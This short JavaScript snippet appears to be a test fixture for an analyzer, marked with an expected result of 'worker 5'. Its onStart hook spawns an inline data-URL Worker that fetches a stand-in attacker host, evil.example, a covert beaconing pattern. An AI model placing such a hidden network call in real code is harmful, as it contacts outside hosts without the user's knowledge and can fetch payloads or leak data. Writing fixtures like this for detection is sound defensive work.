// expect: worker 5
"use strict";
const hooks = {
  onStart(ctx) {
    const w = new Worker("data:text/javascript,fetch('https://evil.example')");
  },
};
